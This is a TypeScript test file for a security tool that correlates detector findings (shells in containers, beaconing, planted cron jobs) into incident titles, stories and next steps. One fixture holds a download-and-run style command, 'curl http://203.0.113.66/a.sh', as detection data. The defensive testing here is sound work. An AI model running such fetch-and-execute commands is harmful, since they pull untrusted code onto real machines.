import { describe, expect, it } from 'vitest';
import type { Finding } from '../events/finding.ts';
import type { Incident } from '../events/incident.ts';
import { correlate } from './correlate.ts';
import { context, entities, finding, minutes, redAttacker } from './testdata/scenarios.ts';

const shell = (minute: number, pid: number): Finding =>
  finding({
    detector: 'rules/falco/Terminal shell in container',
    title: 'Shell in container shop',
    severity: 'high',
    first_seen: minutes(minute),
    entities: entities(['host', 'web01'], ['container', 'shop'], ['process', `web01/${pid}/bash`]),
    attack: ['T1059'],
  });
const tell = (findings: readonly Finding[]): string[] => first(findings)?.story.map(({ text }) => text) ?? [];
const first = (findings: readonly Finding[]): Incident | undefined => correlate(findings, context)[0];

describe('the story of an incident', () => {
  it('tells repetitions once, with how often and until when', () => {
    expect(tell([shell(0, 11), shell(100, 12), shell(245, 13)])).toEqual([
      'Shell in container shop on web01, 3 times until 14:05 UTC',
    ]);
  });
  it('takes the sentence of the detector as it is, on one line', () => {
    expect(tell([{ ...shell(0, 11), sentence: 'java on web01\n started   bash' }])).toEqual([
      'java on web01 started bash',
    ]);
  });
  it('cuts what evidence made long', () => {
    expect(tell([{ ...shell(0, 11), title: 'x'.repeat(100_000) }])[0]?.length).toBeLessThan(400);
  });
  it('is bounded, and keeps the first step of each tactic', () => {
    const many = Array.from({ length: 120 }, (_none, index) =>
      finding({
        detector: `rules/sigma/r${index}`,
        title: `Rule ${index} on web01`,
        severity: index === 100 ? 'medium' : 'high',
        first_seen: minutes(index),
        entities: entities(['host', 'web01'], ['process', 'web01/5/java']),
        attack: [index === 100 ? 'T1486' : 'T1059'],
      }),
    );
    const story = tell(many);
    expect(story).toHaveLength(40);
    expect(story).toContain('Rule 100 on web01');
  });
  it('orders what to do by strength, without doubles', () => {
    const next = first([
      { ...shell(0, 11), next: 'Look at the container.' },
      {
        ...shell(3, 12),
        next: 'Look at the container.',
        detector: 'rules/falco/Other',
        title: 'Other',
        severity: 'critical',
      },
      { ...shell(4, 12), next: 'Rebuild the image.', detector: 'rules/falco/Third', title: 'Third' },
    ])?.next;
    expect(next?.slice(1)).toEqual(['Look at the container.', 'Rebuild the image.']);
  });
  it('says first what detectors that measured ask for, then what rules do', () => {
    const [rule, measured] = [
      shell(0, 11),
      { ...shell(3, 12), detector: 'analytics/persistence-change', title: 'Changed' },
    ];
    const next = first([
      { ...rule, next: 'Look at the events.', severity: 'critical' },
      { ...measured, next: 'Look at what stands in the timetable.' },
    ])?.next;
    expect(next?.slice(1)).toEqual(['Look at what stands in the timetable.', 'Look at the events.']);
  });
});

describe('the title of an incident', () => {
  it('of one finding is what the finding says, with its host', () => {
    expect(first([shell(0, 11)])?.title).toBe('Shell in container shop on web01');
  });
  it('calls a machine by its address rather than by the folder of its log', () => {
    const unnamed = { ...shell(0, 11), entities: entities(['host', 'host of ev'], ['process', 'host of ev/11/bash']) };
    const seen = {
      ...shell(1, 12),
      detector: 'analytics/beacon',
      title: 'Calls out',
      entities: entities(['host', '10.0.0.5'], ['container', 'shop']),
    };
    const aliases = (value: string): string[] => (value === '10.0.0.5' ? ['host of ev'] : []);
    expect(first([unnamed])?.next[0]).toContain('Take host of ev off');
    expect(correlate([unnamed, seen], { ...context, aliases })[0]?.next[0]).toContain('Take 10.0.0.5 off');
  });
  it('leaves out a far side that nobody saw, and takes one out of a command', () => {
    const fetched = (value: string): Finding => ({
      ...shell(1, 12),
      id: 'f-fetch',
      title: 'curl into bash',
      attack: ['T1105'],
      reasons: [{ what: 'command', value }],
    });
    expect(first([shell(0, 11), fetched('./get.sh')])?.title).toBe('Command shell on web01, implant fetching tools');
    expect(first([shell(0, 11), fetched('curl http://203.0.113.66/a.sh')])?.title).toBe(
      'Command shell on web01, implant fetching tools from 203.0.113.66',
    );
  });
  it('counts the hosts that it does not name', () => {
    const beacons = ['a1', 'a2', 'a3'].map((host) =>
      finding({
        detector: 'analytics/beacon',
        title: 'Beacon',
        severity: 'high',
        entities: entities(['host', host], ['address', redAttacker.address]),
        attack: ['T1071'],
      }),
    );
    expect(first(beacons)?.title).toBe('Beaconing to 203.0.113.7 from a1 and 2 more hosts');
  });
  it('is not led astray by replacement marks in names', () => {
    const odd = { ...shell(0, 11), entities: entities(['host', '$&{far}'], ['process', '$&{far}/5/sh']) };
    const other = { ...odd, detector: 'x/y', title: 'Cron', attack: ['T1053'], id: 'f-odd', first_seen: minutes(2) };
    expect(first([odd, other])?.title).toBe('Command shell on $&{far}, scheduled job planted');
  });
});
